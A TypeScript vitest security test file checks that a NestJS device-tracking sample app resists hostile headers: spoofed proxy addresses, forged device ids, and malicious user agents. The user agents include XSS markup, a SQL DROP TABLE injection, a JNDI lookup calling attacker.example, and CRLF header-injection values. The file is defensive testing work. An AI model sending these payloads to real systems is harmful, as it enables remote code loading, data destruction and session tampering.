import { connect } from 'node:net';
import type { AddressInfo } from 'node:net';
import type { INestApplication } from '@nestjs/common';
import { Device } from 'nestjs-device-tracker';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { afterEach, describe, expect, it } from 'vitest';
import type { TrustProxy } from '../../sample-app/src/http-adapter.js';
import { TEST_DB } from '../support/database.js';
import { PLATFORM } from '../support/platform.js';
import { startSampleApp } from '../support/sample-app.js';

const ALICE = { username: 'alice', password: 'alice-password' };
const BOB = { username: 'bob', password: 'bob-password' };
/** What the sample app's test client connects from. */
const LOOPBACK = ['127.0.0.1', '::1'];
/** Headers a client could send to pass for another address. */
const SPOOFED = {
  'x-forwarded-for': '203.0.113.66',
  forwarded: 'for=198.51.100.77;proto=https',
  'x-real-ip': '192.0.2.88',
};

/**
 * Hostile headers against the sample app, on the platform under test: spoofed client addresses, user agents no
 * browser sends, and device ids of another user's device. The database is read after each attack.
 */
describe(`Hostile headers (${TEST_DB}, ${PLATFORM})`, () => {
  let app: INestApplication | undefined;

  afterEach(async () => {
    await app?.close();
    app = undefined;
  });

  async function start(trustProxy: TrustProxy = false): Promise<INestApplication> {
    app = await startSampleApp({ trustProxy });
    return app;
  }

  /** Signs in over HTTP with extra headers; the answer and the device row it wrote. */
  async function login(headers: Record<string, string>, credentials = ALICE) {
    const response = await request(app!.getHttpServer()).post('/auth/login').set(headers).send(credentials);
    const deviceId = response.headers['x-device-id'] as string | undefined;
    const row = deviceId ? await devices().findOneBy({ id: deviceId }) : null;
    return { response, deviceId, row };
  }

  const devices = () => app!.get(DataSource).getRepository(Device);

  describe('client address', () => {
    it('ignores X-Forwarded-For, Forwarded and X-Real-IP when no proxy is trusted', async () => {
      await start(false);
      const { response, row } = await login(SPOOFED);
      expect(response.status).toBe(200);
      expect(LOOPBACK).toContain(row!.ipAddress);
    });

    it('takes the address the trusted proxy saw, not the one the client wrote before it', async () => {
      await start('loopback');
      // The client wrote 198.51.100.66; the trusted proxy (loopback) appended the address it really came from.
      const { row } = await login({ 'x-forwarded-for': '198.51.100.66, 203.0.113.9' });
      expect(row!.ipAddress).toBe('203.0.113.9');
    });

    it('walks back over every trusted hop and no further', async () => {
      await start('loopback, 10.0.0.0/8');
      const { row } = await login({ 'x-forwarded-for': '198.51.100.66, 203.0.113.9, 10.0.0.5' });
      expect(row!.ipAddress).toBe('203.0.113.9');
    });

    it('never reads Forwarded or X-Real-IP, even behind a trusted proxy', async () => {
      await start('loopback');
      const { row } = await login({ forwarded: SPOOFED.forwarded, 'x-real-ip': SPOOFED['x-real-ip'] });
      expect(LOOPBACK).toContain(row!.ipAddress);
    });
  });

  describe('user agents', () => {
    /** Printable text only: what a page or a log line may show. */
    const printable = /^[^\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069]*$/u;

    it.each<[string, string]>([
      ['empty (0 bytes)', ''],
      ['8 kB', `Mozilla/5.0 ${'A'.repeat(8 * 1024)}`],
      ['binary (bytes 0x80-0xff)', Buffer.from(Array.from({ length: 128 }, (_, i) => 0x80 + i)).toString('latin1')],
      ['emoji (UTF-8 bytes)', Buffer.from('Mozilla/5.0 🙂🔥 (Pixel 8)', 'utf8').toString('latin1')],
      ['markup', '<script>alert(1)</script><img src=x onerror=alert(2)>'],
      ['SQL', "Mozilla/5.0'); DROP TABLE device_tracker_devices; --"],
      ['a template lookup', '${jndi:ldap://attacker.example/a}'],
      ['an encoded header break', 'Mozilla/5.0%0d%0aSet-Cookie:%20stolen=1'],
    ])('stores a user agent that is %s safely, as text', async (_name, userAgent) => {
      await start();
      const { response, row } = await login({ 'user-agent': userAgent });
      expect(response.status).toBe(200);
      expect(response.headers['set-cookie']).not.toEqual(expect.arrayContaining([expect.stringMatching(/stolen/)]));
      expect(row!.userAgent.length).toBeLessThanOrEqual(512);
      expect(row!.userAgent).toMatch(printable);
      expect(row!.deviceName).toMatch(printable);
      // Listed back exactly as stored: JSON-encoded text, never interpreted.
      const listed = await request(app!.getHttpServer())
        .get('/api/devices')
        .auth(response.body.access_token, { type: 'bearer' })
        .expect(200);
      expect(listed.body).toEqual([
        expect.objectContaining({ userAgent: row!.userAgent, deviceName: row!.deviceName }),
      ]);
      expect(await devices().count()).toBe(1);
    });

    it('records an empty user agent as an unknown device', async () => {
      await start();
      const { row } = await login({ 'user-agent': '' });
      expect(row).toMatchObject({ userAgent: '', deviceName: 'Unknown device', browser: null, deviceType: 'unknown' });
    });

    it('answers a 100 kB user agent with a 4xx before the app runs, and stores nothing', async () => {
      await start();
      const { response } = await login({ 'user-agent': `Mozilla/5.0 ${'A'.repeat(100 * 1024)}` });
      expect(response.status).toBe(431);
      expect(await devices().count()).toBe(0);
    });

    it('answers control characters and a raw header break with 400 from the HTTP parser, and stores nothing', async () => {
      await start();
      for (const userAgent of ['Mozilla\u0001\u0002\u0007/5.0', 'Mozilla/5.0\rX-Injected: 1']) {
        expect(await rawLogin(app!, userAgent)).toMatch(/^HTTP\/1\.1 400 /);
      }
      expect(await devices().count()).toBe(0);
    });
  });

  describe('forged device ids', () => {
    it("never links a login to another user's device, by header or by cookie", async () => {
      await start();
      const alice = await login({ 'user-agent': 'alice-laptop' });
      const before = await devices().findOneByOrFail({ id: alice.deviceId! });

      const byHeader = await login({ 'x-device-id': alice.deviceId!, 'user-agent': 'bob-phone' }, BOB);
      const byCookie = await login({ cookie: `device_id=${alice.deviceId}`, 'user-agent': 'bob-tablet' }, BOB);
      const upperCase = await login({ 'x-device-id': alice.deviceId!.toUpperCase() }, BOB);

      for (const bob of [byHeader, byCookie, upperCase]) {
        expect(bob.response.status).toBe(200);
        expect(bob.deviceId).not.toBe(alice.deviceId);
        expect(bob.row!.userId).toBe('2');
      }
      expect(await devices().findOneByOrFail({ id: alice.deviceId! })).toEqual(before);
      const bobsList = await request(app!.getHttpServer())
        .get('/api/devices')
        .auth(byCookie.response.body.access_token, { type: 'bearer' })
        .expect(200);
      expect(bobsList.body.map((device: { id: string }) => device.id)).not.toContain(alice.deviceId);
    });
  });
});

/** A login sent byte for byte over a socket, with a user agent no HTTP client library would send; the status line. */
async function rawLogin(app: INestApplication, userAgent: string): Promise<string> {
  const server = app.getHttpServer();
  if (!server.listening) await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const body = JSON.stringify(ALICE);
  const socket = connect(port, '127.0.0.1');
  socket.write(
    `POST /auth/login HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${userAgent}\r\nContent-Type: application/json\r\n` +
      `Content-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`,
  );
  let answer = '';
  for await (const chunk of socket) answer += String(chunk);
  return answer.split('\r\n', 1)[0]!;
}
